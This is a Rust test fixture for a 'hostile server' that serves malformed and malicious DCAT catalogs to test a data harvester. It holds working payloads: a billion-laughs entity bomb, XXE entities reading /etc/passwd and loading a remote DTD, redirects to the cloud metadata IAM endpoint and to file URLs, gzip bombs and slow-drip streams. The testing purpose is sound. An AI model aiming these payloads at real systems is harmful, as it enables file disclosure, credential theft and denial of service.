//! The DCAT cases of the hostile server (`/h/{case}`): XML attacks, size attacks, slow senders,
//! redirect tricks, paging attacks, broken syntax and encodings, wrong content types, status
//! codes — each a catalog (or a non-catalog) answered at its own path.

use std::convert::Infallible;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use axum::body::{Body, Bytes};
use axum::extract::{Path, Query, State};
use axum::http::{header, StatusCode};
use axum::response::Response;
use futures::StreamExt;

use super::{
    answer, deep_json, Hostile, BIG_LITERAL_BYTES, DEEP, HUGE_BODY_BYTES, HUGE_LITERAL_BYTES,
    LETTERS, MANY_DISTRIBUTIONS,
};
use crate::catalogs::{datasets, turtle_page};

static SPACES: [u8; 65_536] = [b' '; 65_536];

const DCAT_PREFIXES: &str = "@prefix dcat: <http://www.w3.org/ns/dcat#> .\n\
@prefix dct: <http://purl.org/dc/terms/> .\n\
@prefix ex: <http://example.org/ns#> .\n\
@prefix hydra: <http://www.w3.org/ns/hydra/core#> .\n\n";

fn turtle(body: impl Into<Body>) -> Response {
    answer(200, Some("text/turtle; charset=utf-8"), body)
}

fn redirect(to: &str) -> Response {
    Response::builder()
        .status(StatusCode::FOUND)
        .header(header::LOCATION, to)
        .body(Body::empty())
        .unwrap_or_default()
}

/// A Turtle page of `n` datasets named `{prefix}-{i}`, with a relative Hydra `next` link.
pub(super) fn page(prefix: &str, n: usize, next: Option<&str>) -> String {
    turtle_page("", &datasets(prefix, n), next)
}

/// One Turtle dataset with extra predicate-object text spliced in.
fn one_dataset(id: &str, extra: &str) -> String {
    format!(
        "{DCAT_PREFIXES}<https://remote.example.org/dataset/{id}> a dcat:Dataset ;\n  \
         dct:identifier \"{id}\" ;\n  dct:title \"Dataset {id}\" {extra} .\n"
    )
}

/// A stream of `total` bytes taken from a static buffer, counted in `streamed`.
fn lazy_body(
    head: String,
    fill: &'static [u8; 65_536],
    total: u64,
    tail: &'static str,
    streamed: Arc<AtomicU64>,
) -> Body {
    let chunks = total.div_ceil(fill.len() as u64);
    let body = futures::stream::iter(0..chunks).map(move |i| {
        let left = total - i * fill.len() as u64;
        let n = left.min(fill.len() as u64) as usize;
        streamed.fetch_add(n as u64, Ordering::Relaxed);
        Ok::<_, Infallible>(Bytes::from_static(&fill[..n]))
    });
    let head = futures::stream::once(async move { Ok::<_, Infallible>(Bytes::from(head)) });
    let tail =
        futures::stream::once(
            async move { Ok::<_, Infallible>(Bytes::from_static(tail.as_bytes())) },
        );
    Body::from_stream(head.chain(body).chain(tail))
}

fn billion_laughs() -> String {
    let mut doctype = String::from("<!DOCTYPE rdf:RDF [\n  <!ENTITY lol0 \"lol\">\n");
    for i in 1..=9 {
        let prev = format!("&lol{};", i - 1);
        doctype.push_str(&format!("  <!ENTITY lol{i} \"{}\">\n", prev.repeat(10)));
    }
    doctype.push_str("]>\n");
    rdfxml_dataset("billion-laughs", &doctype, "&lol9;")
}

fn rdfxml_dataset(id: &str, doctype: &str, title: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?>\n{doctype}<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" \
         xmlns:dcat=\"http://www.w3.org/ns/dcat#\" xmlns:dct=\"http://purl.org/dc/terms/\">\n\
         <dcat:Dataset rdf:about=\"https://remote.example.org/dataset/{id}\">\n\
         <dct:identifier>{id}</dct:identifier>\n<dct:title>{title}</dct:title>\n\
         </dcat:Dataset>\n</rdf:RDF>\n"
    )
}

/// Deterministic binary garbage (xorshift), starting with bytes that sniff as nothing.
pub fn garbage(len: usize) -> Vec<u8> {
    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
    let mut out = Vec::with_capacity(len);
    out.extend_from_slice(&[0x00, 0xFF, 0xFE, 0x01]);
    while out.len() < len {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        out.extend_from_slice(&x.to_le_bytes());
    }
    out.truncate(len);
    out
}

#[derive(serde::Deserialize)]
pub(super) struct PageQuery {
    page: Option<u64>,
}

pub(super) async fn dcat_case(
    State(st): State<Hostile>,
    Path(case): Path<String>,
    Query(q): Query<PageQuery>,
) -> Response {
    let pageno = q.page.unwrap_or(1);
    let canary = st.canary.clone();
    match case.as_str() {
        // Controls: a small, valid catalog.
        c if c.starts_with("ok") => turtle(page(c, 3, None)),

        // XML attacks.
        "billion-laughs" => answer(200, Some("application/rdf+xml"), billion_laughs()),
        "xxe-file" => answer(
            200,
            Some("application/rdf+xml"),
            rdfxml_dataset(
                "xxe-file",
                "<!DOCTYPE rdf:RDF [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n",
                "&xxe;",
            ),
        ),
        "xxe-http" => answer(
            200,
            Some("application/rdf+xml"),
            rdfxml_dataset(
                "xxe-http",
                &format!("<!DOCTYPE rdf:RDF [<!ENTITY xxe SYSTEM \"{canary}/xxe\">]>\n"),
                "&xxe;",
            ),
        ),
        "xxe-parameter" => answer(
            200,
            Some("application/rdf+xml"),
            rdfxml_dataset(
                "xxe-parameter",
                &format!(
                    "<!DOCTYPE rdf:RDF [<!ENTITY % remote SYSTEM \"{canary}/evil.dtd\"> %remote;]>\n"
                ),
                "parameter entity",
            ),
        ),
        "deep-rdfxml" => {
            let mut inner = String::new();
            for _ in 0..DEEP {
                inner.push_str("<ex:p rdf:parseType=\"Resource\">");
            }
            inner.push_str(&"</ex:p>".repeat(DEEP));
            let doc = format!(
                "<?xml version=\"1.0\"?>\n<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" \
                 xmlns:dcat=\"http://www.w3.org/ns/dcat#\" xmlns:dct=\"http://purl.org/dc/terms/\" \
                 xmlns:ex=\"http://example.org/ns#\">\n\
                 <dcat:Dataset rdf:about=\"https://remote.example.org/dataset/deep-rdfxml\">\n\
                 <dct:identifier>deep-rdfxml</dct:identifier><dct:title>Deep</dct:title>{inner}\
                 </dcat:Dataset>\n</rdf:RDF>\n"
            );
            answer(200, Some("application/rdf+xml"), doc)
        }

        // Size attacks.
        "huge-body" => answer(
            200,
            Some("text/turtle"),
            lazy_body(
                DCAT_PREFIXES.to_owned(),
                &SPACES,
                HUGE_BODY_BYTES,
                "",
                st.streamed.clone(),
            ),
        ),
        "huge-literal" => {
            let head = format!(
                "{DCAT_PREFIXES}<https://remote.example.org/dataset/huge-literal> a dcat:Dataset ;\n  \
                 dct:identifier \"huge-literal\" ;\n  dct:title \""
            );
            answer(
                200,
                Some("text/turtle"),
                lazy_body(
                    head,
                    &LETTERS,
                    HUGE_LITERAL_BYTES as u64,
                    "\" .\n",
                    st.streamed.clone(),
                ),
            )
        }
        "big-literal" => turtle(one_dataset(
            "big-literal",
            &format!("; dct:description \"{}\"", "b".repeat(BIG_LITERAL_BYTES)),
        )),
        "many-distributions" => {
            let mut extra = String::with_capacity(MANY_DISTRIBUTIONS * 200);
            for i in 0..MANY_DISTRIBUTIONS {
                extra.push_str(&format!(
                    "; dcat:distribution [ a dcat:Distribution ; dct:title \"File {i}\" ; \
                     dcat:downloadURL <https://remote.example.org/files/many/{i}.csv> ; dct:format \"CSV\" ]\n"
                ));
            }
            turtle(one_dataset("many-distributions", &extra))
        }
        "gzip-bomb" => Response::builder()
            .header(header::CONTENT_TYPE, "text/turtle")
            .header(header::CONTENT_ENCODING, "gzip")
            .body(Body::from(st.gzip_bomb.as_ref().clone()))
            .unwrap_or_default(),
        "deflate-bomb" => Response::builder()
            .header(header::CONTENT_TYPE, "text/turtle")
            .header(header::CONTENT_ENCODING, "deflate")
            .body(Body::from(st.zlib_bomb.as_ref().clone()))
            .unwrap_or_default(),

        // Slow senders.
        "slow-drip" => {
            let drip = futures::stream::unfold(0u32, |i| async move {
                if i >= 3_600 {
                    return None;
                }
                tokio::time::sleep(Duration::from_secs(1)).await;
                Some((Ok::<_, Infallible>(Bytes::from_static(b"#")), i + 1))
            });
            answer(200, Some("text/turtle"), Body::from_stream(drip))
        }

        // Redirect tricks.
        "redirect-loop-a" => redirect("/h/redirect-loop-b"),
        "redirect-loop-b" => redirect("/h/redirect-loop-a"),
        "redirect-chain" => redirect(&format!("/h/redirect-chain?page={}", pageno + 1)),
        "redirect-private" => redirect(&format!("{canary}/stolen")),
        "redirect-metadata" => redirect("http://169.254.169.254/latest/meta-data/iam/"),
        "redirect-file" => redirect("file:///etc/passwd"),
        "redirect-dns" => {
            let port = canary.rsplit(':').next().unwrap_or("80");
            redirect(&format!("http://{}:{port}/dns", st.loopback_name))
        }

        // Paging attacks.
        "hydra-loop-a" => turtle(page("hydra-loop-a", 2, Some("/h/hydra-loop-b"))),
        "hydra-loop-b" => turtle(page("hydra-loop-b", 2, Some("/h/hydra-loop-a"))),
        "runaway-paging" => turtle(page(
            &format!("runaway-{pageno}"),
            2,
            Some(&format!("?page={}", pageno + 1)),
        )),
        "same-page" => turtle(page("same-page", 2, Some(&format!("?page={}", pageno + 1)))),

        // Broken syntax and encodings.
        "invalid-utf8" => {
            let mut body = one_dataset("invalid-utf8", "; dct:description \"caf\u{e9} PLACEHOLDER\"")
                .into_bytes();
            // Latin-1 bytes and a lone continuation byte inside a literal.
            let at = body
                .windows(11)
                .position(|w| w == b"PLACEHOLDER")
                .unwrap_or(0);
            body.splice(at..at + 11, [0xE9, 0xFF, 0xFE, 0x80, b'x']);
            turtle(body)
        }
        "truncated-turtle" => {
            let full = page("truncated-turtle", 3, None);
            let cut = full.len() * 2 / 3;
            turtle(full.as_bytes()[..cut].to_vec())
        }
        "garbage" => answer(200, Some("application/octet-stream"), garbage(64 * 1024)),
        "garbage-as-turtle" => turtle(garbage(64 * 1024)),
        "deep-jsonld" => answer(
            200,
            Some("application/ld+json"),
            deep_json(DEEP, "http://example.org/ns#p"),
        ),
        "deep-turtle" => {
            let mut extra = String::from("; ex:p ");
            extra.push_str(&"[ ex:p ".repeat(DEEP));
            extra.push_str("\"leaf\"");
            extra.push_str(&" ]".repeat(DEEP));
            turtle(one_dataset("deep-turtle", &extra))
        }
        "deep-collection" => {
            let mut extra = String::from("; ex:p ");
            extra.push_str(&"( ".repeat(DEEP));
            extra.push_str("\"leaf\"");
            extra.push_str(&" )".repeat(DEEP));
            turtle(one_dataset("deep-collection", &extra))
        }
        "jsonld-remote-context" => answer(
            200,
            Some("application/ld+json"),
            serde_json::json!({
                "@context": [
                    format!("{canary}/context.jsonld"),
                    {
                        "@import": format!("{canary}/import.jsonld"),
                        "dct": "http://purl.org/dc/terms/",
                        "distribution": {
                            "@id": "http://www.w3.org/ns/dcat#distribution",
                            "@context": format!("{canary}/scoped.jsonld")
                        }
                    }
                ],
                "@graph": [{
                    "@id": "https://remote.example.org/dataset/jsonld-remote-context",
                    "@type": "http://www.w3.org/ns/dcat#Dataset",
                    "dct:identifier": "jsonld-remote-context",
                    "dct:title": "A dataset behind remote contexts",
                    "title": "this term needs the remote context: dropped",
                    "distribution": {
                        "@id": "https://remote.example.org/dataset/jsonld-remote-context/csv",
                        "http://www.w3.org/ns/dcat#downloadURL": {"@id": "https://remote.example.org/files/ctx.csv"}
                    }
                }]
            })
            .to_string(),
        ),

        // Wrong content types.
        "turtle-as-html" => answer(200, Some("text/html; charset=utf-8"), page("turtle-as-html", 2, None)),
        "rdfxml-as-json" => answer(
            200,
            Some("application/json"),
            rdfxml_dataset("rdfxml-as-json", "", "RDF/XML served as JSON"),
        ),
        "html-200" => answer(
            200,
            Some("text/html; charset=utf-8"),
            "<!DOCTYPE html><html><head><title>Maintenance</title></head>\
             <body><h1>We'll be back soon</h1></body></html>",
        ),
        "empty-200" => answer(200, None, Body::empty()),
        "empty-turtle" => turtle(Body::empty()),
        "empty-catalog" => turtle(format!(
            "{DCAT_PREFIXES}<https://remote.example.org/catalog/empty> a dcat:Catalog ;\n  \
             dct:title \"Nothing here yet\" .\n"
        )),

        // Status codes.
        "http-500" => {
            st.hit("http-500");
            answer(500, Some("text/plain"), "Internal Server Error")
        }
        "http-404" => answer(404, Some("text/plain"), "Not Found"),
        _ => answer(404, Some("text/plain"), "unknown hostile case"),
    }
}
